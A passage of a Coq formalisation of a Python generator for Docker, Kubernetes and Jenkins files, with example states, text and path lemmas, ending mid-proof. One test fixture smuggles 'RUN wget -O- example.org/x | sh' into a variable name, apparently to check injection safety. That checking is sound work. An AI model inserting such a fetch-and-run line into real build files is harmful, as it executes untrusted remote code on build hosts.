Definition logged (f : string) (st : state) : state :=
  {| cwd := cwd st; fs := fs st; calls := f :: calls st |}.

(** The text of the secret template after lines 142-152 of app.py. *)
Definition secret_text (app_name : string) (var_names : list string) : string :=
  Template.secret_header app_name
  +:+ Text.join EmptyString (map Template.secret_entry var_names).

(** A file can be created at [p]: its directory exists and [p] is not
    itself a directory. *)
Definition creatable (st : state) (p : string) : Prop :=
  let P := Os.resolve (cwd st) p in
  P ≠ [] ∧ Os.fs_get (fs st) (Os.parent P) = Some Dir ∧ fs st !! P ≠ Some Dir.

(** A computation that leaves the log of calls as it is. *)
Definition keeps_calls {A} (c : M A) : Prop :=
  ∀ st, calls (c st).2 = calls st.

(** A POST to [/generate] carrying all four fields. *)
Definition request (app_name : string) (port node_port : jsval)
    (envs : list env) : request_json :=
  {| rq_app_name := Some app_name; rq_port := port;
     rq_node_port := node_port; rq_envs := Some envs |}.

(** The example descriptor of the specification (section 8). *)
Definition orders_envs : list env :=
  [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
    {[ "name" := "API_KEY"; "secret_id" := "api-key-secret" ]} ].

Definition orders_request : request_json :=
  request "orders-api" (JInt 8080) (JInt 30080) orders_envs.

(** The module bindings under which the body of [write_secret_yaml]
    would render the pipeline of the example: the four names bound to the
    arguments of [generate_files]. *)
Definition orders_globals : globals :=
  {| g_output_dir := Some (destination "orders-api");
     g_port := Some (JInt 8080);
     g_node_port := Some (JInt 30080);
     g_envs := Some orders_envs |}.

(** A process started in the root of an empty file system. *)
Definition empty_state : state := mkState [] ∅ [].

(** A process in [/srv] with an earlier bundle of the example, and a file
    added by hand, at the destination. *)
Definition old_state : state :=
  mkState ["srv"]
    (list_to_map
       [ (["srv"], Dir);
         (["srv"; "generated"], Dir);
         (["srv"; "generated"; "orders-api"], Dir);
         (["srv"; "generated"; "orders-api"; "notes.txt"], File "keep me");
         (["srv"; "generated"; "orders-api"; "Dockerfile"], File "FROM scratch");
         (["srv"; "generated"; "orders-api"; "k8s"], Dir);
         (["srv"; "generated"; "orders-api"; "k8s"; "old.yaml"], File "old") ])
    [].

(** The regular files of a state, by resolved path. *)
Definition regular_files (st : state) : list path :=
  omap (λ kv, match kv.2 with File _ => Some kv.1 | Dir => None end)
       (map_to_list (fs st)).




(** The pipeline definition of a bundle, if one was written. *)
Definition pipeline_of (st : state) (output_dir : string) : option string :=
  Os.read_file st (jenkinsfile_path output_dir).

(** A descriptor with capitals and an underscore in its name and with the
    same variable twice. *)
Definition shouting_envs : list env :=
  [ {[ "name" := "TOKEN"; "secret_id" := "token-a" ]};
    {[ "name" := "TOKEN"; "secret_id" := "token-b" ]} ].

(** The hypotheses on the file system are decidable. *)
#[global] Instance fs_wf_dec (m : fsmap) : Decision (fs_wf m).
Proof. unfold fs_wf. apply _. Defined.

#[global] Instance destination_free_dec (st : state) (app_name : string) :
  Decision (destination_free st app_name).
Proof. unfold destination_free. apply _. Defined.

#[global] Instance creatable_dec (st : state) (p : string) : Decision (creatable st p).
Proof. unfold creatable. apply _. Defined.

(** ** Further readers, predicates and states

    What the further properties below are stated with. *)

(** A computation that leaves a tree a tree. *)
Definition keeps_tree {A} (c : M A) : Prop :=
  ∀ st, fs_wf (fs st) → fs_wf (fs (c st).2).

(** No regular file stands at or above the node that [p] names. *)
Definition way_clear (st : state) (p : string) : Prop :=
  Forall (λ q, Os.is_file (fs st) q = false) (Os.prefixes (Os.resolve (cwd st) p)).

#[global] Instance way_clear_dec (st : state) (p : string) : Decision (way_clear st p).
Proof. unfold way_clear. apply _. Defined.

(** Every file of a bundle can be created in [m], one after the other:
    each has a directory of [m] as its parent, is no directory itself, and
    no file of the bundle takes the place of such a parent. *)
Definition bundle_creatable (wd : path) (m : fsmap)
    (bundle : list (string * string)) : Prop :=
  Forall (λ w, let Q := Os.resolve wd w.1 in
               Q ≠ [] ∧ Os.fs_get m (Os.parent Q) = Some Dir ∧ m !! Q ≠ Some Dir
               ∧ Forall (λ w', Os.resolve wd w'.1 ≠ Os.parent Q) bundle)
         bundle.

(** A name of an environment variable: letters, digits and underscores,
    not empty. *)
Definition is_identifier_char (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((65 <=? n) && (n <=? 90)) || ((97 <=? n) && (n <=? 122))
  || ((48 <=? n) && (n <=? 57)) || (n =? 95).

Definition identifier (s : string) : bool :=
  negb (bool_decide (s = EmptyString)) && all_chars is_identifier_char s.

(** The lines that declare build arguments, and the lines of the ENV
    instruction, of a build file for the variables [names]. *)
Definition arg_line (n : string) : string := "ARG " +:+ n.
Definition env_pair (n : string) : string := n +:+ "=${" +:+ n +:+ "}".
Definition env_lines (names : list string) : list string :=
  match names with
  | [] => ["ENV  \"]
  | n :: r =>
      ("ENV " +:+ env_pair n +:+ " \")
      :: map (λ m, "    " +:+ env_pair m +:+ " \") r
  end.

(** The ENV instruction of a build file: the runtime defaults it
    exports. *)
Module BuildFile.
Import Text.

(** [s] without the suffix [suf], when it ends with it. *)
Fixpoint strip_suffix (suf s : string) : option string :=
  if bool_decide (s = suf) then Some EmptyString
  else match s with
       | EmptyString => None
       | String c r => option_map (String c) (strip_suffix suf r)
       end.

(** The lines of the instruction that starts with the first of [ls]: a
    line that ends in a backslash continues on the next line. *)
Fixpoint instruction (ls : list string) : list string :=
  match ls with
  | [] => []
  | l :: r => l :: (if ends_with_char "\" l then instruction r else [])
  end.

(** The lines of the first instruction with the keyword [kw]. *)
Fixpoint find_instruction (kw : string) (ls : list string) : list string :=
  match ls with
  | [] => []
  | l :: r => if starts_with kw l then instruction (l :: r) else find_instruction kw r
  end.

(** One [name=value] pair of a line of the ENV instruction, without the
    keyword, the continuation mark and the leading blanks. *)
Definition env_pair_of (l : string) : option (string * string) :=
  let l := default l (strip_prefix "ENV " l) in
  let l := lstrip (default l (strip_suffix " \" l)) in
  if bool_decide (l = EmptyString) then None
  else Some (take_until "=" l, drop_until "=" l).

(** The [name=value] pairs of the ENV instruction, one to a line. *)
Definition env_defaults (text : string) : list (string * string) :=
  omap env_pair_of (find_instruction "ENV " (lines text)).

End BuildFile.

(** A line of the secret template: the entry of one variable. *)
Definition secret_line (var : string) : string :=
  "  " +:+ var +:+ ": " +:+ Text.q ("${" +:+ var +:+ "}").

(** The pipeline definition around the variables of its [environment]
    block: app.py lines 156-171 and 173-180. *)
Definition pipeline_head (app_name : string) (port node_port : jsval) : string :=
"pipeline {
    agent any
    environment {
        REGISTRY         = 'harbor.tsirylab.com'
        HARBOR_PROJECT   = 'pnud-agvm'
        IMAGE_NAME       = '" +:+ app_name +:+ "'
        IMAGE_TAG        = " +:+ Text.q "\${BUILD_NUMBER}" +:+ "
        FULL_IMAGE_NAME  = " +:+ Text.q "\${REGISTRY}/\${HARBOR_PROJECT}/\${IMAGE_NAME}:\${IMAGE_TAG}" +:+ "
        NAMESPACE        = 'pnud-agvm'
        K8S_DIR          = 'k8s'
        DEPLOYMENT_NAME  = '" +:+ app_name +:+ "'
        SERVICE_NAME     = '" +:+ app_name +:+ "-service'
        HPA_NAME         = '" +:+ app_name +:+ "-hpa'
        SECRET_NAME      = '" +:+ app_name +:+ "-secret'
        PORT             = '" +:+ py_str port +:+ "'
        NODE_PORT        = '" +:+ py_str node_port +:+ "'
".

Definition pipeline_stages : string :=
"
    }
    stages {
        stage('Build & Push') {
            steps {
                withCredentials([
                    usernamePassword(credentialsId: 'harbor-credentials',
                                     usernameVariable: 'HARBOR_USER',
                                     passwordVariable: 'HARBOR_PASS'),
".

(** The lines that the loops of the pipeline write: a variable of the
    [environment] block, a credential binding, a build argument and a
    literal of the secret (lines 172, 183, 191 and 229, without their
    newline). *)
Definition env_decl_line (n : string) : string := "        " +:+ n +:+ " = ''".
Definition credential_line (secret_id name : string) : string :=
  "                    string(credentialsId: '" +:+ secret_id +:+
  "', variable: '" +:+ name +:+ "'),".
Definition build_arg_line (name : string) : string :=
  "                          --build-arg " +:+ name +:+ "=" +:+
  Text.q ("\${" +:+ name +:+ "}") +:+ " \".
Definition from_literal_line (name : string) : string :=
  "                          --from-literal=" +:+ name +:+ "=" +:+
  Text.q ("\${" +:+ name +:+ "}") +:+ " \".

(** The two fields of an entry of [envs], empty when absent. *)
Definition name_of (e : env) : string := default EmptyString (e !! "name").
Definition secret_id_of (e : env) : string := default EmptyString (e !! "secret_id").

(** An entry of [envs] that the pipeline can bind: it has both fields,
    the name is an identifier, and the secret id fits on one line and has
    no comma. *)
Definition binding_ok (e : env) : bool :=
  bool_decide (is_Some (e !! "name")) && bool_decide (is_Some (e !! "secret_id"))
  && identifier (name_of e)
  && Text.single_line (secret_id_of e) && Text.free_of "," (secret_id_of e).

(** The text of the pipeline definition after lines 155-246 of app.py:
    what the writes to the Jenkinsfile add up to. *)
Definition pipeline_text (app_name : string) (port node_port : jsval)
    (envs : list env) : string :=
  let credentials :=
    Text.join EmptyString
      (map (λ e, Template.jenkins_credential (secret_id_of e) (name_of e)) envs) in
  Template.jenkins_environment app_name port node_port (map name_of envs)
  +:+ credentials
  +:+ Template.jenkins_build_open
  +:+ Text.join EmptyString (map (λ e, Template.jenkins_build_arg (name_of e)) envs)
  +:+ Template.jenkins_build_close port
  +:+ credentials
  +:+ Template.jenkins_deploy_open
  +:+ Text.join EmptyString (map (λ e, Template.jenkins_from_literal (name_of e)) envs)
  +:+ Template.jenkins_deploy_close app_name.

(** The bindings under which [write_secret_yaml] finds the four names
    it reads. *)
Definition bound_globals (output_dir : string) (port node_port : jsval)
    (envs : list env) : globals :=
  {| g_output_dir := Some output_dir; g_port := Some port;
     g_node_port := Some node_port; g_envs := Some envs |}.

(** The first of the names that the body of [write_secret_yaml] reads and
    that [g] leaves unbound, in the order in which the body reads them. *)
Definition first_unbound (g : globals) : option string :=
  match g_output_dir g, g_port g, g_node_port g, g_envs g with
  | None, _, _, _ => Some "output_dir"
  | Some _, None, _, _ => Some "port"
  | Some _, Some _, None, _ => Some "node_port"
  | Some _, Some _, Some _, None => Some "envs"
  | Some _, Some _, Some _, Some _ => None
  end.

(** A process in [/srv] where a regular file stands at the destination
    of the example. *)
Definition blocked_state : state :=
  mkState ["srv"]
    (list_to_map
       [ (["srv"], Dir);
         (["srv"; "generated"], Dir);
         (["srv"; "generated"; "orders-api"], File "not a directory") ])
    [].

(** A process in [/srv] on a host with a directory [/etc]. *)
Definition host_state : state :=
  mkState ["srv"]
    (list_to_map
       [ (["srv"], Dir);
         (["etc"], Dir);
         (["etc"; "passwd"], File "root:x:0:0") ])
    [].

(** Bindings that leave [node_port] unbound. *)
Definition half_bound_globals : globals :=
  {| g_output_dir := Some "generated/orders-api";
     g_port := Some (JInt 8080);
     g_node_port := None;
     g_envs := Some orders_envs |}.

(** A path made of proper names: a leading slash apart, no component is
    empty, [.] or [..], so that the node it names is the same whichever
    of the directories on the way exist. *)
Definition clean_path (p : string) : bool :=
  forallb path_component
    (Text.split_on Text.slash (default p (Text.strip_prefix "/" p))).

(** A file can be opened for writing at the clean path [p]. *)
Definition writable (st : state) (p : string) : Prop :=
  clean_path p = true ∧ creatable st p.

#[global] Instance writable_dec (st : state) (p : string) : Decision (writable st p).
Proof. unfold writable. apply _. Defined.

(** What follows the keyword [kw] on the lines of a build file that
    start with it: the operands of its [kw] instructions, first to
    last. *)
Definition operands (kw : string) (text : string) : list string :=
  omap (Text.strip_prefix kw) (Text.lines text).

(** A keyword that no line written for a variable starts with. *)
Definition other_keyword (kw : string) : bool :=
  negb (Text.starts_with kw "ARG ") && negb (Text.starts_with "ARG " kw)
  && negb (Text.starts_with kw "ENV ") && negb (Text.starts_with "ENV " kw)
  && negb (Text.starts_with kw "    ") && negb (Text.starts_with "    " kw).

(** A text that can stand between single quotes on one line. *)
Definition quotable (s : string) : bool :=
  Text.single_line s && Text.free_of "'" s.

(** Opening braces minus closing braces of a text. *)
Fixpoint brace_balance (s : string) : Z :=
  match s with
  | EmptyString => 0
  | String c r =>
      (if Ascii.eqb c "{" then 1 else if Ascii.eqb c "}" then -1 else 0)
      + brace_balance r
  end%Z.

(** A text without braces. *)
Definition brace_free (s : string) : bool :=
  Text.free_of "{" s && Text.free_of "}" s.

(** An entry of [envs] with both fields and without braces in them. *)
Definition plain_binding (e : env) : bool :=
  env_complete e && brace_free (name_of e) && brace_free (secret_id_of e).

(** The deploy stage of the pipeline definition: what it binds, what it
    creates the secret from, and what it waits for. *)
Module DeployStage.
Import Text.

(** The lines after the one that opens the deploy stage. *)
Fixpoint stage_lines (ls : list string) : list string :=
  match ls with
  | [] => []
  | l :: r => if starts_with "stage('Deploy')" (lstrip l) then r else stage_lines r
  end.

(** The variables bound with [string(credentialsId: .., variable: ..)]
    in the deploy stage. *)
Definition credentials (text : string) : list string :=
  omap (λ l,
          if starts_with "string(credentialsId: " (lstrip l)
          then option_map (take_until "'") (strip_prefix "variable: '" (lstrip (drop_until "," l)))
          else None)
       (stage_lines (lines text)).

(** One [--from-literal=KEY="\${VAR}"] of the command that creates the
    secret: the key and the variable whose value it gets. *)
Definition literal_of (l : string) : option (string * string) :=
  match strip_prefix "--from-literal=" (lstrip l) with
  | Some rest =>
      match strip_prefix (dq +:+ "\${") (drop_until "=" rest) with
      | Some v => Some (take_until "=" rest, take_until "}" v)
      | None => None
      end
  | None => None
  end.

Definition secret_literals (text : string) : list (string * string) :=
  omap literal_of (lines text).

(** The image-pull secret that the stage creates. *)
Definition registry_secret (text : string) : option string :=
  List.hd_error
    (omap (λ l, option_map (take_until " ")
                  (strip_prefix "kubectl create secret docker-registry " (lstrip l)))
          (lines text)).

(** The workload whose rollout the stage waits for. *)
Definition rollout_target (text : string) : option string :=
  List.hd_error
    (omap (λ l, option_map (take_until " ")
                  (strip_prefix "kubectl rollout status deployment/" (lstrip l)))
          (lines text)).

(** The [app] label by which the stage lists the pods. *)
Definition pod_label (text : string) : option string :=
  List.hd_error
    (omap (λ l, strip_prefix "kubectl get pods -n \${NAMESPACE} -l app=" (lstrip l))
          (lines text)).

End DeployStage.

(** Entries as a request without secret ids would carry them. *)
Definition orders_names_only : list env :=
  [ {[ "name" := "DB_URL" ]}; {[ "name" := "API_KEY"; "comment" := "rotate monthly" ]} ].

(** A process in [/srv] before any request: nothing has been
    generated. *)
Definition fresh_state : state := mkState ["srv"] {[ ["srv"] := Dir ]} [].

(** Entries with a variable name of two lines. *)
Definition two_line_envs : list env :=
  [ {[ "name" := "DB_URL"; "secret_id" := "db-url-secret" ]};
    {[ "name" := "API_KEY" +:+ String Text.nl "RUN wget -O- example.org/x | sh";
       "secret_id" := "api-key-secret" ]} ].

(** ** Names and paths within the limits of the system

    The file system of the model has no limits.  The system has some: a
    file name holds no NUL and at most 255 bytes (NAME_MAX), a path less
    than 4096 (PATH_MAX); and it walks a path directory by directory,
    where the model resolves it from its text.  The properties of the
    code that are stated for all names or paths are stated within these
    limits. *)

(** A file name that the system accepts: one path component, without a
    NUL, of at most 255 bytes. *)
Definition file_name (s : string) : bool :=
  path_component s && Text.free_of "000" s && (String.length s <=? 255).

(** An application name that the system accepts in the names of all the
    files of a bundle: the longest of them is [<name>-service.yaml], 13
    bytes more than the name. *)
Definition accepted_name (s : string) : bool :=
  path_component s && Text.free_of "000" s && (String.length s <=? 242).

(** A path that the system resolves as the model does: a leading slash
    apart, its components are file names (none is empty, [.] or [..]);
    and it leaves room, below 4096 bytes, for the names that the code
    adds to it. *)
Definition portable_path (p : string) : bool :=
  forallb file_name
    (Text.split_on Text.slash (default p (Text.strip_prefix "/" p)))
  && (String.length p <=? 4000).

(** A file can be opened for writing at the portable path [p] of a
    tree. *)
Definition openable (st : state) (p : string) : Prop :=
  portable_path p = true ∧ fs_wf (fs st) ∧ creatable st p.

#[global] Instance openable_dec (st : state) (p : string) : Decision (openable st p).
Proof. unfold openable. apply _. Defined.

(** The four files of a bundle are at portable paths. *)
Definition portable_bundle (app_name output_dir : string) : bool :=
  forallb portable_path
    [dockerfile_path output_dir; deployment_path output_dir app_name;
     service_path output_dir app_name; hpa_path output_dir app_name].

(** * Properties *)

(** ** Texts *)

Section TextFacts.
Import Text.

Lemma sapp_nil_l (s : string) : EmptyString +:+ s = s.
Proof. reflexivity. Qed.

Lemma sapp_cons (c : ascii) (a b : string) :
  String c a +:+ b = String c (a +:+ b).
Proof. reflexivity. Qed.

Lemma sapp_nil_r (s : string) : s +:+ EmptyString = s.
Proof. induction s as [|c s IH]; [done|]. by rewrite sapp_cons, IH. Qed.

Lemma sapp_inv_l (a b c : string) : a +:+ b = a +:+ c → b = c.
Proof.
  induction a as [|x a IH]; [done|].
  rewrite !sapp_cons. intros [= H]. auto.
Qed.

Lemma split_on_nonempty sep s : split_on sep s ≠ [].
Proof.
  destruct s as [|c r]; simpl; [done|].
  destruct (Ascii.eqb c sep); [done|]. by destruct (split_on sep r).
Qed.

Lemma split_on_free sep s : free_of sep s = true → split_on sep s = [s].
Proof.
  induction s as [|c r IH]; simpl; [done|].
  destruct (Ascii.eqb c sep); simpl; [done|].
  intros H. by rewrite IH.
Qed.

Lemma glue_cons_head x h1 t1 l2 :
  l2 ≠ [] →
  glue (String x h1 :: t1) l2
  = match glue (h1 :: t1) l2 with
    | h :: t => String x h :: t
    | [] => [String x EmptyString]
    end.
Proof.
  destruct l2 as [|h t]; [done|]. intros _. unfold glue.
  destruct t1 as [|h2 t2]; [done|].
  change (removelast (String x h1 :: h2 :: t2))
    with (String x h1 :: removelast (h2 :: t2)).
  change (removelast (h1 :: h2 :: t2)) with (h1 :: removelast (h2 :: t2)).
  reflexivity.
Qed.

(** Splitting a concatenation: the fields of the two parts, the last of
    the first glued to the first of the second. *)
Lemma split_on_app sep a b :
  split_on sep (a +:+ b) = glue (split_on sep a) (split_on sep b).
Proof.
  induction a as [|x a IH].
  - rewrite sapp_nil_l. simpl. unfold glue.
    destruct (split_on sep b) as [|h t] eqn:E; [by apply split_on_nonempty in E|].
    done.
  - rewrite sapp_cons. simpl. rewrite IH.
    pose proof (split_on_nonempty sep b) as Hb.
    destruct (Ascii.eqb x sep).
    + unfold glue. destruct (split_on sep b) as [|h t]; [done|].
      destruct (split_on sep a) as [|h1 t1] eqn:E;
        [by apply split_on_nonempty in E|].
      reflexivity.
    + destruct (split_on sep a) as [|h1 t1] eqn:E;
        [by apply split_on_nonempty in E|].
      by rewrite glue_cons_head.
Qed.

Lemma lines_app a b : lines (a +:+ b) = glue (lines a) (lines b).
Proof. apply split_on_app. Qed.

Lemma lines_single s : single_line s = true → lines s = [s].
Proof. apply split_on_free. Qed.

Lemma lines_app_single a b :
  single_line a = true → lines (a +:+ b) = prepend a (lines b).
Proof.
  intros H. rewrite lines_app, (lines_single a H). unfold glue, prepend.
  destruct (lines b) as [|[|c h] t]; [done| |done].
  simpl. by rewrite sapp_nil_r.
Qed.

Lemma free_of_app sep a b :
  free_of sep (a +:+ b) = free_of sep a && free_of sep b.
Proof.
  induction a as [|x a IH]; [done|].
  rewrite sapp_cons. simpl. rewrite IH. by rewrite andb_assoc.
Qed.

Lemma ends_with_char_split sep s :
  ends_with_char sep s = true →
  ∃ l, l ≠ [] ∧ split_on sep s = l ++ [EmptyString].
Proof.
  induction s as [|c r IH]; [done|].
  destruct r as [|c' r'].
  - simpl. intros ->. by exists [EmptyString].
  - intros H. change (ends_with_char sep (String c' r') = true) in H.
    destruct (IH H) as (l & Hl & E).
    change (split_on sep (String c (String c' r')))
      with (if Ascii.eqb c sep then EmptyString :: split_on sep (String c' r')
            else match split_on sep (String c' r') with
                 | h :: t => String c h :: t
                 | [] => [String c EmptyString]
                 end).
    rewrite E. destruct (Ascii.eqb c sep).
    + by exists (EmptyString :: l).
    + destruct l as [|h t]; [done|]. by exists (String c h :: t).
Qed.

End TextFacts.

(** ** Paths and file-system lookups *)

Section OsFacts.
Import Text Os.
Local Arguments Ascii.eqb : simpl never.

Lemma component_not_abs x :
  path_component x = true → starts_with "/" x = false.
Proof.
  unfold path_component. intros [_ H]%andb_true_iff.
  destruct x as [|c r]; [done|]. simpl in *.
  apply andb_true_iff in H as [H _]. rewrite Ascii.eqb_sym.
  unfold slash in *. destruct (Ascii.eqb c "/"); [done|]. by destruct r.
Qed.

Lemma norm_step_component stack x :
  path_component x = true → norm_step stack x = stack ++ [x].
Proof.
  unfold path_component, norm_step. intros H. apply andb_true_iff in H as [H _].
  apply negb_true_iff, bool_decide_eq_false in H.
  by rewrite !bool_decide_eq_false_2 by tauto.
Qed.

Lemma starts_with_app a b :
  a ≠ EmptyString → starts_with "/" (a +:+ b) = starts_with "/" a.
Proof. destruct a as [|c r]; [done|]. intros _. rewrite sapp_cons. simpl. by rewrite !andb_true_r. Qed.

Lemma fold_norm_snoc l c init :
  fold_left norm_step (l ++ [c]) init = norm_step (fold_left norm_step l init) c.
Proof. by rewrite fold_left_app. Qed.

(** Joining a plain component onto any path names the child of that
    name. *)
Lemma resolve_join wd a x :
  path_component x = true →
  resolve wd (path_join a x) = resolve wd a ++ [x].
Proof.
  intros Hx. unfold path_join. rewrite (component_not_abs x Hx).
  pose proof Hx as [_ Hfree]%andb_true_iff.
  destruct (decide (a = EmptyString)) as [->|Ha].
  - simpl. rewrite sapp_nil_l. unfold resolve.
    rewrite (component_not_abs x Hx), (split_on_free _ _ Hfree). simpl.
    rewrite norm_step_component by done.
    unfold norm_step. simpl. done.
  - rewrite (bool_decide_eq_false_2 _ Ha). simpl.
    destruct (ends_with_char slash a) eqn:E.
    + unfold resolve. rewrite starts_with_app by done.
      rewrite split_on_app, (split_on_free _ _ Hfree).
      destruct (ends_with_char_split _ _ E) as (l & Hl & ->).
      unfold glue. rewrite removelast_last, last_last, sapp_nil_l.
      rewrite !fold_norm_snoc, norm_step_component by done.
      done.
    + unfold resolve. rewrite starts_with_app by done.
      rewrite split_on_app.
      change (split_on slash ("/" +:+ x)) with (EmptyString :: split_on slash x).
      rewrite (split_on_free _ _ Hfree). unfold glue.
      rewrite sapp_nil_r.
      pose proof (split_on_nonempty slash a) as Hne.
      assert (removelast (split_on slash a)
                ++ [List.last (split_on slash a) EmptyString; x]
              = split_on slash a ++ [x]) as ->.
      { rewrite (app_removelast_last EmptyString Hne) at 3.
        by rewrite <- app_assoc. }
      by rewrite fold_norm_snoc, norm_step_component.
Qed.

Lemma resolve_component wd x :
  path_component x = true → resolve wd x = wd ++ [x].
Proof.
  intros Hx. unfold resolve. rewrite (component_not_abs x Hx).
  apply andb_true_iff in Hx as Hx'. destruct Hx' as [_ Hfree].
  rewrite (split_on_free _ _ Hfree). simpl. by apply norm_step_component.
Qed.

Lemma length_app_string (a b : string) :
  String.length (a +:+ b) = String.length a + String.length b.
Proof. induction a as [|c a IH]; [done|]. rewrite sapp_cons. simpl. by rewrite IH. Qed.

Lemma path_component_app a suffix :
  path_component a = true → free_of slash suffix = true →
  3 ≤ String.length suffix →
  path_component (a +:+ suffix) = true.
Proof.
  unfold path_component. intros [_ Ha]%andb_true_iff Hs Hlen.
  apply andb_true_iff. split.
  - apply negb_true_iff, bool_decide_eq_false.
    intros [E|[E|E]]; apply (f_equal String.length) in E;
      rewrite length_app_string in E; simpl in E; lia.
  - by rewrite free_of_app, Ha, Hs.
Qed.

(** *** Lookups after the file-system operations *)

Lemma lookup_remove_tree (P : path) (m : fsmap) (q : path) :
  remove_tree P m !! q = if decide (P `prefix_of` q) then None else m !! q.
Proof.
  unfold remove_tree. rewrite map_lookup_filter.
  destruct (m !! q) as [e|]; simpl.
  - case_guard; case_decide; simpl in *; tauto || done.
  - by case_decide.
Qed.

Lemma elem_of_prefixes (q K : path) : q ∈ prefixes K ↔ q ≠ [] ∧ q `prefix_of` K.
Proof.
  revert q. induction K as [|c r IH]; intros q; simpl.
  - split; [by intros ?%elem_of_nil|]. by intros [Hq ?%prefix_nil_inv].
  - rewrite elem_of_cons, list_elem_of_fmap. split.
    + intros [->|(q' & -> & Hq')].
      * split; [done|]. apply prefix_cons, prefix_nil.
      * apply IH in Hq' as [_ Hp]. split; [done|]. by apply prefix_cons.
    + intros [Hq Hp]. destruct q as [|c' q']; [done|].
      pose proof (prefix_cons_inv_1 _ _ _ _ Hp) as ->.
      apply prefix_cons_inv_2 in Hp.
      destruct q' as [|c'' q'']; [by left|].
      right. exists (c'' :: q''). split; [done|]. by apply IH.
Qed.

Lemma lookup_make_dirs (K : path) (m : fsmap) (q : path) :
  make_dirs K m !! q
  = if decide (q ≠ [] ∧ q `prefix_of` K) then Some Dir else m !! q.
Proof.
  unfold make_dirs.
  assert (∀ l, foldr (λ q acc, <[q := Dir]> acc) m l !! q
               = if decide (q ∈ l) then Some Dir else m !! q) as H.
  { intros l. induction l as [|a l IH].
    - by rewrite decide_False by apply not_elem_of_nil.
    - cbn [foldr]. rewrite lookup_insert, IH.
      destruct (decide (a = q)) as [->|Hne], (decide (q ∈ l)) as [Hin|Hin],
        (decide (q ∈ _ :: l)) as [Hc|Hc]; try done;
        exfalso; apply Hc || revert Hc; rewrite elem_of_cons; tauto || intuition congruence. }
  rewrite H. repeat case_decide; try done; by rewrite elem_of_prefixes in *.
Qed.

Lemma prefix_snoc_inv (q l : path) x :
  q `prefix_of` l ++ [x] → q `prefix_of` l ∨ q = l ++ [x].
Proof.
  intros [k E]. destruct k as [|y k _] using rev_ind.
  - right. by rewrite app_nil_r in E.
  - left. exists k. rewrite app_assoc in E. by apply app_inj_tail in E as [-> _].
Qed.

Lemma fs_get_stored (m : fsmap) (p : path) : p ≠ [] → fs_get m p = m !! p.
Proof. by destruct p. Qed.

(** In a tree, everything above a stored node is a directory. *)
Lemma wf_ancestor_dir (m : fsmap) (q : path) e (p : path) :
  fs_wf m → m !! q = Some e → p `prefix_of` q → p ≠ q →
  fs_get m p = Some Dir.
Proof.
  intros Hwf Hq [k ->]. revert e Hq.
  induction k as [|x k IH] using rev_ind; intros e Hq Hne.
  - by rewrite app_nil_r in Hne.
  - rewrite app_assoc in Hq.
    destruct (Hwf _ _ Hq) as [_ Hpar].
    unfold parent in Hpar. rewrite removelast_last in Hpar.
    destruct k as [|y k'].
    + by rewrite app_nil_r in Hpar.
    + rewrite fs_get_stored in Hpar by (by destruct p).
      eapply IH; [done|].
      intros E%(f_equal length). rewrite length_app in E. simpl in E. lia.
Qed.

Lemma wf_prefix_dir (m : fsmap) (p q : path) :
  fs_wf m → fs_get m p = Some Dir → q `prefix_of` p → fs_get m q = Some Dir.
Proof.
  intros Hwf Hp Hq. destruct (decide (q = p)) as [->|Hne]; [done|].
  destruct p as [|c r]; [by apply prefix_nil_inv in Hq|].
  simpl in Hp. by eapply wf_ancestor_dir.
Qed.

(** Below a node that does not exist there is nothing to remove. *)
Lemma remove_tree_absent (m : fsmap) (P : path) :
  fs_wf m → fs_get m P = None → remove_tree P m = m.
Proof.
  intros Hwf HP. apply map_eq. intros q. rewrite lookup_remove_tree.
  case_decide as Hpre; [|done].
  destruct (m !! q) as [e|] eqn:E; [|done].
  destruct (decide (P = q)) as [->|Hne].
  - destruct q; simpl in HP; congruence.
  - rewrite (wf_ancestor_dir m q e P) in HP; done.
Qed.
End OsFacts.

(** ** Running the phases *)

Section Run.
Import Os.

Lemma run_bind {A B} (c : M A) (k : A → M B) st :
  (c ≫= k) st
  = match c st with
    | (Ok a, st') => k a st'
    | (Raise e, st') => (Raise e, st')
    end.
Proof. reflexivity. Qed.

Lemma generate_files_phases (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) (st : state) :
  generate_files app_name port node_port envs output_dir st
  = match prepare output_dir (logged "generate_files" st) with
    | (Ok _, st') => render app_name port node_port envs output_dir st'
    | (Raise e, st') => (Raise e, st')
    end.
Proof.
  unfold generate_files, prepare, render.
  rewrite run_bind. cbv beta iota delta [log_call]. fold (logged "generate_files" st).
  set (st1 := logged "generate_files" st).
  rewrite !run_bind. cbv beta iota delta [path_exists].
  rewrite !run_bind.
  match goal with |- context [(if ?b then ?x else ?y) st1] =>
    destruct ((if b then x else y) st1) as [[[]|e] st2]; [|done] end.
  rewrite !run_bind. by destruct (makedirs _ st2) as [[[]|e] st3].
Qed.

Lemma find_none_iff {A} (f : A → bool) (l : list A) :
  List.find f l = None ↔ ∀ x, x ∈ l → f x = false.
Proof.
  induction l as [|a l IH]; simpl.
  - split; [|done]. by intros _ x ?%elem_of_nil.
  - destruct (f a) eqn:E.
    + split; [done|]. intros H. rewrite (H a) in E; [done|]. by left.
    + rewrite IH. split.
      * intros H x [->|?]%elem_of_cons; auto.
      * intros H x ?. apply H. by right.
Qed.

(** Once an existing directory [P] is removed, no regular file stands
    in the way of [P/k8s]. *)
Lemma cleared_no_file (m : fsmap) (P : path) :
  fs_wf m → fs_get m P = Some Dir →
  List.find (is_file (remove_tree P m)) (prefixes (P ++ ["k8s"])) = None.
Proof.
  intros Hwf HP. apply find_none_iff. intros q [Hq Hpre]%elem_of_prefixes.
  unfold is_file. rewrite fs_get_stored, lookup_remove_tree by done.
  case_decide as HPq; [done|].
  apply prefix_snoc_inv in Hpre as [Hpre| ->].
  - rewrite <- (fs_get_stored m) by done.
    by rewrite (wf_prefix_dir _ P q).
  - destruct HPq. by apply prefix_app_r.
Qed.

(** Clearing and creating the destination [P] with its sub-directory
    [K]: the call fails, with nothing changed, when [P] or something
    above [K] is a regular file; otherwise what was at and below [P] is
    gone and the directories down to [K] exist. *)
Lemma prepare_run (output_dir : string) (st : state) :
  let P := resolve (cwd st) output_dir in
  let K := P ++ ["k8s"] in
  fs_wf (fs st) →
  prepare output_dir st
  = match fs_get (fs st) P with
    | Some (File _) => (Raise (NotADirectoryError output_dir), st)
    | _ =>
        match List.find (is_file (remove_tree P (fs st))) (prefixes K) with
        | Some q =>
            (Raise (if bool_decide (q = K)
                    then FileExistsError (path_join output_dir "k8s")
                    else NotADirectoryError (path_join output_dir "k8s")), st)
